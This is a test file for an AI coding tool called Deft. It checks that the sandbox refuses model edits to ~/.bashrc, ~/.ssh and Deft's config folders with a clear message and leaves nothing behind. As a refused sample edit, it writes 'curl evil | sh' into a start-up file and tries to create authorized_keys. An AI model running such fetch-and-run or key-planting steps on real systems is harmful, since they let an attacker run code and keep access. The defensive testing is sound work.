/**
 * With the workspace holding the home folder (`deft -w ~`), the editors refuse the places the
 * sandbox keeps read-only (src/policy/home_places.ts, Deft's control folders) with one clear
 * message (src/policy/control_cover.ts `protectedWriteRefusal`), never the kernel's bare
 * "Read-only file system (os error 30)".
 *
 * Promises, each with the test that guards it:
 * - an edit of ~/.bashrc says which file, that Deft keeps it read-only and why, where the docs
 *   say so and what the user can do; the file and its folder are as they were: "protected
 *   places: str_replace on ~/.bashrc …"
 * - a create in ~/.ssh, an insert into a file in Deft's config folder, a json_edit there and a
 *   create beside it in ~/.config each name the folder that is kept and why, and leave no scratch
 *   file behind: "protected places: a create in ~/.ssh …"
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { runDeft } from "../../../helpers/deft.ts";
import { tempDir } from "../../../helpers/temp.ts";

async function tool(home: string, name: string, args: unknown) {
  const r = await runDeft(
    ["tool", name, JSON.stringify(args), "-w", home, "--sandbox", "workspace-write"],
    { cwd: home, env: { HOME: home } },
  );
  return JSON.parse(r.stdout) as { success: boolean; error: string | null };
}

/** Every name in `dir` (and its folders), for a check that nothing was left behind. */
async function names(dir: string): Promise<string[]> {
  const out: string[] = [];
  for await (const entry of Deno.readDir(dir)) {
    out.push(entry.name);
    if (entry.isDirectory) out.push(...(await names(join(dir, entry.name))));
  }
  return out.sort();
}

Deno.test("protected places: str_replace on ~/.bashrc under -w ~ says it is kept read-only, why and what to do", async () => {
  await using temp = await tempDir("deft-protected-");
  const home = temp.path;
  await Deno.writeTextFile(join(home, ".bashrc"), "alias ll='ls -l'\n");
  const result = await tool(home, "str_replace_based_edit_tool", {
    command: "str_replace",
    path: join(home, ".bashrc"),
    old_str: "ls -l",
    new_str: "curl evil | sh",
  });
  assert.equal(result.success, false, JSON.stringify(result));
  const error = result.error ?? "";
  assert.ok(error.startsWith(`${join(home, ".bashrc")} is your bash start-up file.`), error);
  assert.match(error, /Deft keeps it read-only to the model when the workspace holds it/);
  assert.match(error, /docs\/sandbox\.md/);
  assert.match(error, /Nothing was written/);
  assert.match(error, /narrower workspace \(-w DIR\)/);
  assert.doesNotMatch(error, /os error|Read-only file system|permission denied/);
  assert.equal(await Deno.readTextFile(join(home, ".bashrc")), "alias ll='ls -l'\n");
  assert.deepEqual((await names(home)).filter((n) => n.startsWith(".deft-")), []);
});

Deno.test("protected places: a create in ~/.ssh, edits in Deft's config folder and beside it are refused clearly, nothing left", async () => {
  await using temp = await tempDir("deft-protected-");
  const home = temp.path;
  const config = join(home, ".config", "deft");
  await Deno.mkdir(config, { recursive: true });
  await Deno.writeTextFile(join(config, "config.yaml"), "model: a\n");
  await Deno.writeTextFile(join(config, "mcp.json"), '{"servers": {}}\n');
  const before = await names(home);
  const calls: [string, Record<string, unknown>, RegExp][] = [
    [
      "str_replace_based_edit_tool",
      { command: "create", path: join(home, ".ssh", "authorized_keys"), file_text: "key\n" },
      /^\S+\/\.ssh\/authorized_keys lies in ~\/\.ssh, your SSH folder .*Deft keeps ~\/\.ssh read-only/,
    ],
    [
      "str_replace_based_edit_tool",
      {
        command: "insert",
        path: join(config, "config.yaml"),
        insert_line: 0,
        new_str: "x: 1\n",
      },
      /^\S+\/config\.yaml lies in ~\/\.config\/deft, Deft's config folder .*what the next Deft runs/,
    ],
    [
      "json_edit_tool",
      { operation: "add", file_path: join(config, "mcp.json"), json_path: "$.servers.x", value: 1 },
      /^\S+\/mcp\.json lies in ~\/\.config\/deft, Deft's config folder .*Deft keeps/,
    ],
    [
      "str_replace_based_edit_tool",
      { command: "create", path: join(home, ".config", "other", "a.txt"), file_text: "a\n" },
      /^\S+\/a\.txt lies in ~\/\.config, which holds ~\/\.config\/deft, .*Deft keeps ~\/\.config read-only/,
    ],
  ];
  for (const [name, args, expected] of calls) {
    const result = await tool(home, name, args);
    assert.equal(result.success, false, JSON.stringify(result));
    assert.match(result.error ?? "", expected);
    assert.match(result.error ?? "", /Nothing was written.*-w DIR/);
    assert.doesNotMatch(result.error ?? "", /os error|Read-only file system/);
  }
  assert.equal(await Deno.readTextFile(join(config, "config.yaml")), "model: a\n");
  assert.equal(await Deno.readTextFile(join(config, "mcp.json")), '{"servers": {}}\n');
  // Deft made its covers (~/.ssh, the start-up files) at the first call; nothing else appeared.
  const after = (await names(home)).filter((n) => !before.includes(n));
  assert.deepEqual(after.filter((n) => n.startsWith(".deft-") || n === "authorized_keys"), []);
  assert.equal(after.includes("other"), false, after.join(" "));
});
